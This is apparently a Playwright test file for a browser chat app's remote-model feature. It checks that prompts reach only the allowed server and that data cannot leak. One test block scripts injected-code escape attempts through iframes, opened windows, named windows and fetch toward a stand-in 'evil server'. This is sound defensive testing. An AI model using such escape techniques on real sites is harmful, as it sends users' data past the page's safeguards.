import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { type OpenAiServer, startOpenAiServer } from '../src/engine/remote/testing/openai-server.ts'
import { driver } from './driver.ts'
import { type AppServer, startAppServer } from './fixtures/app-server.ts'
import { type EvilServer, startEvilServer } from './fixtures/evil-server.ts'

let app: AppServer
let model: OpenAiServer
let context: BrowserContext
let page: Page
/** Every request that any document or worker made to another host than the app's. */
let outside: string[]

test.beforeEach(async ({ browser }) => {
  app = await startAppServer()
  model = await startOpenAiServer()
  context = await browser.newContext({ baseURL: app.url })
  outside = []
  context.on('request', (request) => {
    if (/^(https?|wss?):/.test(request.url()) && new URL(request.url()).origin !== app.url) outside.push(request.url())
  })
  page = await context.newPage()
})
test.afterEach(async () => {
  await context.close()
  await model.close()
  await app.close()
})

const frames = () => page.frames().filter((frame) => frame !== page.mainFrame())

/** Allows servers, as a person does. */
async function allow() {
  await page.goto('/?engine=scripted#/models')
  await page.getByRole('switch', { name: 'Allow a server outside this page' }).click()
  await page.getByRole('button', { name: 'Allow, and reload the page' }).click()
  await expect(page).toHaveURL(/\/with-remote\.html/)
}

async function setUp(key = '') {
  await allow()
  await page.getByRole('textbox', { name: 'Address of the server' }).fill(`${model.url}v1`)
  if (key !== '') await page.getByLabel('Key, if the server wants one').fill(key)
  await page.getByRole('button', { name: 'Look for its models' }).click()
  await page.getByRole('button', { name: 'Use this model' }).click()
  await expect(page.getByRole('button', { name: /^Connect to 127/ })).toBeVisible()
}

test('[E60] a prompt goes to the allowed server, and every place says so', async () => {
  await setUp('secret-key')
  expect(
    model.seen.every(({ path }) => path !== '/v1/chat/completions'),
    'nothing was sent before connecting',
  ).toBe(true)
  await page.getByRole('button', { name: /^Connect to 127/ }).click()
  await expect(page.getByText('Connected', { exact: true })).toBeVisible()
  const chat = driver(page)
  await page.getByRole('button', { name: 'New chat', exact: true }).click()
  await expect(page.getByText(`What you send leaves this page: it goes to ${model.url}`)).toBeVisible()
  const reply = await chat.say('Who are you?')
  await expect(reply).toContainText('Hello from the server.')
  await expect(reply).toContainText(`Left this page: sent to ${model.url}`)
  await chat.openReceipt(reply)
  await expect(chat.receipt).toContainText(`Left this page: sent to ${model.url}`)
  const asked = model.seen.filter(({ path }) => path === '/v1/chat/completions')
  expect(asked).toHaveLength(1)
  expect(asked[0]?.headers.authorization).toBe('Bearer secret-key')
  expect(asked[0]?.headers.cookie).toBeUndefined()
  expect(asked[0]?.headers.referer).toBeUndefined()
  expect(
    outside.filter((url) => !url.startsWith(model.url)),
    'requests to anybody else',
  ).toEqual([])
  expect(frames()).toHaveLength(1)
})

test.describe('[E66] what cannot leave', () => {
  let evil: EvilServer
  test.beforeEach(async () => {
    evil = await startEvilServer()
  })
  test.afterEach(() => evil.close())

  /** What something injected could try to have another document talk for it; each in the page. */
  const tries: Readonly<Record<string, (evil: string) => unknown>> = {
    frame: (evil) => {
      const frame = document.createElement('iframe')
      frame.src = `/remote.html#${encodeURIComponent(evil)}`
      document.body.append(frame)
    },
    window: async (evil) => {
      const opened = window.open(`/remote.html#${encodeURIComponent(evil)}`)
      await new Promise((resolve) => setTimeout(resolve, 500))
      return (opened as unknown as { fetch: typeof fetch }).fetch(evil)
    },
    otherChat: async (evil) => {
      const opened = window.open('/with-remote.html')
      await new Promise((resolve) => setTimeout(resolve, 500))
      return (opened as unknown as { fetch: typeof fetch }).fetch(evil)
    },
    namedWindow: async (evil) => {
      const link = document.createElement('a')
      link.href = '/remote.html'
      link.target = 'named'
      link.click()
      await new Promise((resolve) => setTimeout(resolve, 500))
      return (window.open('', 'named') as unknown as { fetch: typeof fetch }).fetch(evil)
    },
    framesOfThePage: (evil) => {
      for (const frame of Array.from(window.frames as unknown as ArrayLike<Window>)) frame.location.href = evil
      for (const frame of document.querySelectorAll('iframe')) frame.src = `/remote.html#${encodeURIComponent(evil)}`
    },
    askAgain: (evil) =>
      document.dispatchEvent(
        new CustomEvent('longhand:remote', { detail: { receive: (frames: { open(to: string): void }) => frames.open(evil) } }),
      ),
    fetch: (evil) => fetch(evil),
  }
  async function tryAll() {
    for (const [name, attempt] of Object.entries(tries))
      await page.evaluate(`Promise.resolve().then(() => (${attempt})(${JSON.stringify(`${evil.url}/${name}`)})).catch(() => {})`)
    await page.waitForTimeout(900)
  }

  test('off: there is no frame and no way to one', async () => {
    await page.goto('/?engine=scripted')
    const chat = driver(page)
    await chat.loadModel()
    await tryAll()
    expect(frames()).toEqual([])
    expect([...evil.heard()]).toEqual([])
    expect(outside).toEqual([])
  })

  test('off: the policy alone lets no frame in, without the guard', async () => {
    await context.route('**/guard.js', (route) => route.fulfill({ contentType: 'text/javascript', body: '' }))
    await page.goto('/?engine=scripted')
    await page.evaluate(async (evil) => {
      const frame = document.createElement('iframe')
      frame.src = `/remote.html#${encodeURIComponent(`${evil}/`)}`
      document.body.append(frame)
      await new Promise((resolve) => setTimeout(resolve, 700))
      const { port1, port2 } = new MessageChannel()
      port1.start()
      frame.contentWindow?.postMessage({ type: 'longhand:look', key: '' }, '*', [port2])
    }, evil.url)
    await page.waitForTimeout(700)
    expect([...evil.heard()]).toEqual([])
  })

  test('on: requests go to the allowed address, and nothing reaches the frame or another', async () => {
    await setUp()
    await page.getByRole('button', { name: /^Connect to 127/ }).click()
    await expect(page.getByText('Connected', { exact: true })).toBeVisible()
    const [frame] = frames()
    expect(frame?.url()).toBe(`${app.url}/remote.html#${encodeURIComponent(model.url)}`)
    const inFrame = (url: string) =>
      frame?.evaluate(
        (url) =>
          fetch(url).then(
            () => 'went',
            () => 'refused',
          ),
        url,
      )
    expect(await inFrame(`${model.url}v1/models`)).toBe('went')
    expect(await inFrame(`${evil.url}/inFrame`)).toBe('refused')
    expect(await inFrame('/index.html'), 'not even to the app itself').toBe('refused')
    await tryAll()
    expect([...evil.heard()]).toEqual([])
    expect(evil.connections()).toBe(0)
    expect(outside.filter((url) => !url.startsWith(model.url))).toEqual([])
  })
})

test('[E67] after a reload nothing is sent before the user connects; switched off, all of it is forgotten', async () => {
  await setUp('secret-key')
  const before = model.seen.length
  await page.getByRole('button', { name: /^Connect to 127/ }).click()
  await expect(page.getByText('Connected', { exact: true })).toBeVisible()
  const connected = model.seen.length
  expect(connected).toBeGreaterThan(before)
  await page.reload()
  await expect(page.getByRole('button', { name: /^Connect to 127/ })).toBeVisible()
  await page.waitForTimeout(700)
  expect(model.seen.length, 'nothing was sent after the reload').toBe(connected)
  expect(frames()).toEqual([])
  await page.getByRole('switch', { name: 'Allow a server outside this page' }).click()
  await page.getByRole('button', { name: 'Switch off, and reload the page' }).click()
  await expect(page).toHaveURL(/127\.0\.0\.1:\d+\/\?engine=scripted#\/models$/)
  await expect(page.getByRole('switch', { name: 'Allow a server outside this page' })).not.toBeChecked()
  const stored = await page.evaluate(async () => {
    const { longhandStorage } = globalThis as unknown as {
      longhandStorage: { settings: { get(name: string): Promise<unknown> } }
    }
    return [await longhandStorage.settings.get('device:remote'), await longhandStorage.settings.get('device:remote-key')]
  })
  expect(stored).toEqual([{ on: false, address: '', sideWork: false }, undefined])
})

test('[E62] what goes wrong is said in words, and no other model takes its place', async () => {
  await allow()
  const address = page.getByRole('textbox', { name: 'Address of the server' })
  const look = page.getByRole('button', { name: 'Look for its models' })
  const alert = page.getByRole('alert')
  await address.fill('http://[::1]:8080')
  await expect(page.getByText('use a name or an IPv4 address')).toBeVisible()
  await expect(look).toBeDisabled()
  await address.fill('http://127.0.0.1:9/')
  await look.click()
  await expect(alert).toContainText('The server could not be reached.')
  await address.fill(model.url)
  model.change({ cors: false })
  await look.click()
  await expect(alert).toContainText('does not let this page read its answers')
  model.change({ hangUp: ['/v1/models'] })
  await look.click()
  await expect(alert).toContainText('answer broke off')
  model.change({ key: 'right' })
  await look.click()
  await expect(alert).toContainText('refused the key')
  await page.getByLabel('Key, if the server wants one').fill('right')
  await look.click()
  await page.getByRole('button', { name: 'Use this model' }).click()
  await page.getByRole('button', { name: /^Connect to 127/ }).click()
  await expect(page.getByText('Connected', { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'New chat', exact: true }).click()
  const chat = driver(page)
  model.change({ key: 'right', cutAfter: 2, stepMs: 50 })
  await chat.message.fill('Tell me')
  await page.getByRole('button', { name: 'Send', exact: true }).click()
  await expect(chat.replies.last()).toContainText('The server’s answer broke off.')
  await expect(chat.replies.last()).toContainText('Hello')
  await expect(chat.replies.last().getByRole('button', { name: 'Continue' })).toBeVisible()
  // Told once, where it happened.
  await expect(alert).toHaveCount(0)
  for (const [options, words] of [
    [{ key: 'right', hangUp: ['/v1/chat/completions'] }, 'The server’s answer broke off.'],
    [{ key: 'right', refuse: { status: 500, body: 'out of order' } }, 'out of order'],
    [{ key: 'right', cors: false }, 'does not let this page read its answers'],
  ] as const) {
    model.change(options)
    await chat.message.fill('Tell me more')
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await expect(chat.replies.last()).toContainText(words)
    await expect(chat.replies.last().getByRole('button', { name: 'Try again' })).toBeVisible()
    await expect(alert).toHaveCount(0)
  }
  expect(await chat.engine()).toBe('ready')
  expect(outside.filter((url) => !url.startsWith(model.url) && !url.startsWith('http://127.0.0.1:9/'))).toEqual([])
})
